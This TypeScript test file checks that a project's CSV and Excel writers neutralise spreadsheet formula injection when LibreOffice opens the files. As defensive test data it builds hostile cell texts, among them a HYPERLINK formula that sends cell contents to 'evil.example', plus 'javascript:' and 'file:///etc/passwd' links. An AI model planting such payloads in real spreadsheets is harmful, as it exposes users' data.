import { execFile, spawnSync } from 'node:child_process';
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { promisify } from 'node:util';
import Papa from 'papaparse';
import { writeCsv } from '../../../src/base/spreadsheet/csv-writer.ts';
import type { Column } from '../../../src/base/spreadsheet/table.ts';
import { writeXlsx } from '../../../src/base/spreadsheet/xlsx-writer.ts';
import { batches, createFolder } from './temporary-folder.ts';
import { describeIf } from '../../helpers/describe-if.ts';

const hasLibreOffice = spawnSync('soffice', ['--version']).status === 0;

const columns: Column[] = [
  { key: 'number', header: 'Number', kind: 'number' },
  { key: 'text', header: '=1+1', kind: 'text' },
  { key: 'phone', header: 'x;=1+1;y', kind: 'phone' },
  { key: 'own', header: 'Own', kind: 'own' },
];
const formulas = ['=1+1', '+1+1', '-1+1', '@SUM(1;1)', '=HYPERLINK("https://evil.example/"&A1;"x")'];
const leads = ['', ' ', '\u00A0', '\uFEFF', '\u200B', '"', ' "', '\t', '\r\n', '\n '];
const places: readonly (readonly [string, string])[] = [
  ['', ''],
  ['x;', ';y'],
  ['x,', ',y'],
  ['x\t', '\ty'],
  ['x\n', '\ny'],
  ['x\n', ';y'],
  ['x";', ';"y'],
  ['x;"', '";y'],
  ['x; ,', ';'],
];
const texts = formulas.flatMap((formula) =>
  leads.flatMap((lead) => places.map(([before, after]) => before + lead + formula + after)),
);
const rows = texts.map((text, number) => ({ number, text, phone: text, own: text }));

describeIf(hasLibreOffice, { needs: 'LibreOffice (soffice)', debianPackage: 'libreoffice-calc-nogui' })(
  'written files in LibreOffice with a German locale',
  () => {
    const folder = createFolder();

    /** The cells with a formula in each file, and the addresses of links. `infilter`: the separator with which LibreOffice opens it. */
    async function convert(names: readonly string[], infilter: readonly string[]) {
      const profile = `-env:UserInstallation=file://${join(folder, 'profile')}`;
      const args = [profile, '--headless', '--norestore', ...infilter, '--convert-to', 'fods', '--outdir', folder];
      await promisify(execFile)('soffice', [...args, ...names.map((name) => join(folder, name))], { timeout: 120_000 });
      return names.map((name) => {
        const xml = readFileSync(join(folder, name.replace(/\.\w+$/, '.fods')), 'utf8');
        const table = xml.slice(xml.indexOf('<table:table '));
        return {
          formulas: table.match(/table:formula="[^"]*"/g) ?? [],
          links: table.match(/xlink:href="[^"]*"/g) ?? [],
          isRead: table.includes('1+1'),
        };
      });
    }

    it('show no formula in a CSV file of hostile texts, whatever the separator', async () => {
      await writeCsv({ path: join(folder, 'written.csv'), columns, rows: batches(rows) });
      const raw = rows.map(({ number, text }) => [number, text, text, text]);
      writeFileSync(join(folder, 'control.csv'), `\uFEFF${Papa.unparse(raw)}`);
      for (const separator of [';', '\t', ',']) {
        // Separator, quote, UTF-8, first line, no column formats, German, quoted cells may be numbers, numbers are recognised.
        const options = [separator.charCodeAt(0), 34, 76, 1, '', 1_031, false, true].join(',');
        const infilter = [`--infilter=Text - txt - csv (StarCalc):${options}`];
        const [written, control] = await convert(['written.csv', 'control.csv'], infilter);
        expect([separator, written]).toEqual([separator, { formulas: [], links: [], isRead: true }]);
        // Proves that LibreOffice would show formulas.
        expect(control?.formulas).toContainEqual('table:formula="of:=1+1"');
      }
    });

    it('show neither formula nor link in an Excel file of hostile texts', async () => {
      const hostile = [...rows, { text: 'javascript:alert(1)' }, { text: 'file:///etc/passwd' }];
      const path = join(folder, 'hostile.xlsx');
      await writeXlsx({ path, sheet: { name: '=1+1', columns, rows: batches(hostile) }, summary: () => [] });
      const [written] = await convert(['hostile.xlsx'], []);
      expect(written).toEqual({ formulas: [], links: [], isRead: true });
    });
  },
);
